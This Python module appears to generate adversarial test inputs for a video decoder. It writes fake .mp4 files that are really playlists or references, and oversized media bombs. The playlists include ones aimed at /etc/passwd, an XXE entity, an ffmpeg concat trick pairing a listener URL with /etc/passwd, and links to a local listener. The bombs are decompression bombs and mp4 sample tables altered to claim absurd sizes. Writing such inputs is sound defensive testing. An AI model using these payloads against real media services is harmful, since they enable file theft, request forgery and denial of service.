"""Files that attack a decoder: playlists and references disguised as videos, and bombs that are small on disk.

write_disguised(folder, target=video, url="http://127.0.0.1:18999")      32 files named .mp4 that point elsewhere
write_bombs(folder, intact=video)                                          claims and pictures of absurd size
"""

from __future__ import annotations

import base64
import struct
import zlib
from collections.abc import Iterator
from fractions import Fraction
from pathlib import Path

import av
from PIL import Image

HLS = "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXT-X-MEDIA-SEQUENCE:0\n{key}#EXTINF:10.0,\n{entry}\n#EXT-X-ENDLIST\n"
XML = '<?xml version="1.0"?>'
MPD = '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT10S"'


def _playlists(target: Path, url: str, intact: bytes) -> Iterator[tuple[str, str]]:
    key = f'#EXT-X-KEY:METHOD=AES-128,URI="{url}/key",IV=0x{"0" * 32}\n'
    concat = f"concat:{url}/x?|subfile,,start,0,end,40,,:/etc/passwd"
    data = "data:video/mp4;base64," + base64.b64encode(intact).decode()
    for name, entry in {
        "hls_file": f"file://{target}",
        "hls_rel": str(target),
        "hls_http": f"{url}/hls.ts",
        "hls_concat": concat,
        "hls_fd": "fd:",
        "hls_data": data,
    }.items():
        yield name, HLS.format(key="", entry=entry)
    yield "hls_crypto", HLS.format(key=key, entry=f"crypto+file://{target}")
    stream = "#EXT-X-STREAM-INF:PROGRAM-ID=1,BANDWIDTH={rate}\n"
    yield (
        "hls_master",
        "#EXTM3U\n" + stream.format(rate=1280000) + f"{url}/low.m3u8\n" + stream.format(rate=256) + "fd:\n",
    )
    for name, lines in {
        "abs": f"file {target}",
        "url": f"file {url}/c.mp4",
        "fd": "file fd:\noption fd 0",
        "opt": f"file '{target.name}'\noption protocol_whitelist file,http,tcp,fd\noption safe 0",
        "rel": f"file {target.name}",
    }.items():
        yield f"ffconcat_{name}", f"ffconcat version 1.0\n{lines}\n"
    port = url.rpartition(":")[2]
    session = "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n"
    yield "sdp", f"{session}m=video {port} RTP/AVP 96\na=rtpmap:96 H264/90000\n"
    profile = 'profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"'
    representation = '<Period><AdaptationSet mimeType="video/mp4"><Representation id="{id}" bandwidth="1000">'
    tail = "</Representation></AdaptationSet></Period></MPD>"
    yield "dash", f"{XML}{MPD} {profile}>{representation.format(id=1)}<BaseURL>{url}/d.mp4</BaseURL>{tail}"
    entity = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    yield "dash_file", f"{XML}{entity}{MPD}>{representation.format(id='&e;')}<BaseURL>file://{target}</BaseURL>{tail}"
    composition = '<CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016">'
    yield "imf", f"{XML}{composition}<Id>urn:uuid:0</Id><EditRate>24 1</EditRate></CompositionPlaylist>"
    yield "image_pattern_%d", "x"
    yield "image_path", "/etc/passwd"
    yield "asf_reference", f"[Reference]\nRef1={url}/x.asf?MSWMExt=.asf\n"
    yield "asx", f'<asx version="3.0"><entry><ref href="{url}/a.wmv"/></entry></asx>'
    yield "smil", f'<smil><body><video src="{url}/a.mp4"/></body></smil>'
    yield "tty", "\x1b[2J\x1b[1;1Hroot:x:0:0\x1b[31mhello" * 50
    yield "vobsub", "# VobSub index file, v7 (do not modify this line!)\nsize: 720x576\nid: en, index: 0\n"
    links = f'<image xlink:href="file:///etc/passwd"/><image xlink:href="{url}/a.png"/>'
    yield "svg", f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{links}</svg>'
    smooth = f'Duration="10"><StreamIndex Type="video" Url="{url}/q"/></SmoothStreamingMedia>'
    yield "ism", f'{XML}<SmoothStreamingMedia MajorVersion="2" MinorVersion="0" {smooth}'


def _with_data_reference(mp4: bytes, kind: bytes, body: bytes) -> bytes:
    """An mp4 whose samples are said to be in another file: the `dref` box replaced, sizes and offsets moved."""
    start = mp4.find(b"dref") - 4
    size = struct.unpack(">I", mp4[start : start + 4])[0]
    entry = struct.pack(">I", 12 + len(body)) + kind + b"\0\0\0\0" + body
    box = struct.pack(">I", 16 + len(entry)) + b"dref" + b"\0\0\0\0" + struct.pack(">I", 1) + entry
    delta = len(box) - size
    patched = bytearray(mp4[:start] + box + mp4[start + size :])
    for name in (b"moov", b"trak", b"mdia", b"minf", b"dinf"):
        at = mp4.find(name) - 4
        patched[at : at + 4] = struct.pack(">I", struct.unpack(">I", patched[at : at + 4])[0] + delta)
    at = patched.find(b"stco")
    for offset in range(at + 12, at + 12 + 4 * struct.unpack(">I", patched[at + 8 : at + 12])[0], 4):
        patched[offset : offset + 4] = struct.pack(">I", struct.unpack(">I", patched[offset : offset + 4])[0] + delta)
    return bytes(patched)


def _alias(target: Path) -> bytes:
    """A classic Mac OS alias record of a file."""
    path = str(target).encode()
    fixed = b"\0" * 4 + struct.pack(">HH", 200, 2) + b"\0\0" + b"\4root".ljust(28, b"\0") + b"\0" * 12
    fixed += bytes([10]) + target.name.encode().ljust(63, b"\0") + b"\0" * 16 + struct.pack(">hh", 1, 1) + b"\0" * 16
    names = b"".join(struct.pack(">HH", kind, len(path)) + path + b"\0" * (len(path) % 2) for kind in (2, 18))
    return fixed + names + struct.pack(">H", 0xFFFF) + b"\0\0"


def _element(name: bytes, body: bytes) -> bytes:
    return name + struct.pack(">Q", len(body) | 1 << 56) + body


def write_disguised(folder: Path, *, target: Path, url: str) -> Path:
    """Write 32 files; `target` is another local video that must never be read through them, `url` a listener."""
    folder.mkdir(parents=True)
    intact = target.read_bytes()
    for name, text in _playlists(target, url, intact):
        (folder / f"{name}.mp4").write_text(text)
    mlv = (
        b"MLVI"
        + struct.pack("<I", 52)
        + b"v2.0\0\0\0\0"
        + b"\0" * 8
        + struct.pack("<HHIHHIIII", 0, 2, 0, 1, 0, 10, 0, 25, 1)
    )
    (folder / "mlv.mp4").write_bytes(mlv + b"\0" * 64)
    for name, kind, body in (
        ("url", b"url ", f"file://{target}\0".encode()),
        ("http", b"url ", f"{url}/dref.mp4\0".encode()),
        ("alis", b"alis", _alias(target)),
        ("rsrc", b"rsrc", _alias(target)),
    ):
        (folder / f"dref_{name}.mp4").write_bytes(_with_data_reference(intact, kind, body))
    linked = _element(b"\x3e\x83\xbb", str(target).encode()) + _element(b"\x3c\x83\xab", str(target).encode())
    information = _element(b"\x15\x49\xa9\x66", linked + _element(b"\x2a\xd7\xb1", b"\x0f\x42\x40"))
    head = _element(b"\x1a\x45\xdf\xa3", _element(b"\x42\x82", b"matroska"))
    (folder / "linked.mp4").write_bytes(head + _element(b"\x18\x53\x80\x67", information))
    return folder


# --- bombs ------------------------------------------------------------------------------------------------------------


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _png(side_px: int) -> bytes:
    packer = zlib.compressobj(9)
    rows = b"".join(packer.compress(b"\0" * (1 + side_px // 8)) for _ in range(side_px)) + packer.flush()
    header = struct.pack(">IIBBBBB", side_px, side_px, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", rows) + _png_chunk(b"IEND", b"")


def _apng(width_px: int, height_px: int, num_frames: int) -> bytes:
    """A header that claims a billion frames, and some that are there."""
    picture = zlib.compress(b"\0" * (1 + width_px * 3) * height_px, 9)
    parts = [_png_chunk(b"IHDR", struct.pack(">IIBBBBB", width_px, height_px, 8, 2, 0, 0, 0))]
    parts.append(_png_chunk(b"acTL", struct.pack(">II", 10**9, 0)))
    sequence = 0
    for number in range(num_frames):
        control = struct.pack(">IIIIIHHBB", sequence, width_px, height_px, 0, 0, 1, 30, 0, 0)
        parts.append(_png_chunk(b"fcTL", control))
        sequence += 1
        if number == 0:
            parts.append(_png_chunk(b"IDAT", picture))
        else:
            parts.append(_png_chunk(b"fdAT", struct.pack(">I", sequence) + picture))
            sequence += 1
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts) + _png_chunk(b"IEND", b"")


def gif(screen_px: int, frame_px: int, num_frames: int) -> bytes:
    head = b"GIF89a" + struct.pack("<HHBBB", screen_px, screen_px, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    frame = b"\x21\xf9\x04\0\x01\0\0\0\x2c" + struct.pack("<HHHHB", 0, 0, frame_px, frame_px, 0) + b"\x02\x02\x44\x01\0"
    return head + frame * num_frames + b";"


def black_video(
    path: Path, width_px: int, height_px: int, num_frames: int, *, every_seconds: float = 1 / 30, title: str = ""
) -> None:
    with av.open(str(path), "w") as output:
        if title:
            output.metadata["title"] = title
        stream = output.add_stream("libx264", rate=30)
        stream.width, stream.height, stream.pix_fmt = width_px, height_px, "yuv420p"
        stream.options = {"preset": "ultrafast", "crf": "51", "g": "100000", "x264-params": "scenecut=0"}
        frame = av.VideoFrame(width_px, height_px, "yuv420p")
        for plane in frame.planes:
            plane.update(bytes(plane.buffer_size))
        for number in range(num_frames):
            frame.pts, frame.time_base = round(number * every_seconds * 1000), Fraction(1, 1000)
            output.mux(stream.encode(frame))
        output.mux(stream.encode(None))


def edited(mp4: bytes, box: bytes, offset: int, values: list[int]) -> bytes:
    at = mp4.find(box) + offset
    return mp4[:at] + struct.pack(f">{len(values)}I", *values) + mp4[at + 4 * len(values) :]


def write_bombs(folder: Path, *, intact: Path, num_wide_frames: int = 2500) -> Path:
    """Write the bombs; `intact` is a small mp4 whose tables are made to lie."""
    folder.mkdir(parents=True)
    mp4 = intact.read_bytes()
    black_video(folder / "wide.mp4", 16384, 48, num_wide_frames)
    black_video(folder / "slow.mkv", 64, 64, 20, every_seconds=50_000)
    black_video(folder / "title.mkv", 64, 64, 16, title="A" * (60 << 20))
    for name, payload in {
        "png_32k.mp4": _png(32768),
        "png_8k.mp4": _png(8192),
        "apng.mp4": _apng(4000, 2000, 60),
        "gif_64k.gif": gif(65535, 65535, 3),
        "gif_300k.gif": gif(16, 1, 300_000),
        "stts_count.mp4": edited(mp4, b"stts", 12, [10**9]),
        "stts_step.mp4": edited(mp4, b"stts", 16, [2**31 - 1]),
        "stsz_count.mp4": edited(mp4, b"stsz", 12, [2**32 - 1]),
        "stsz_constant.mp4": edited(mp4, b"stsz", 8, [1, 2**31]),
    }.items():
        (folder / name).write_bytes(payload)
    for name, side_px, count in (("webp_8k.webp", 8000, 3), ("webp_2k.webp", 2000, 60)):
        pictures = [Image.new("RGB", (side_px, side_px), (k, 0, 0)) for k in range(count)]
        pictures[0].save(
            folder / name, save_all=True, append_images=pictures[1:], duration=10, lossless=True, quality=0, method=0
        )
    return folder
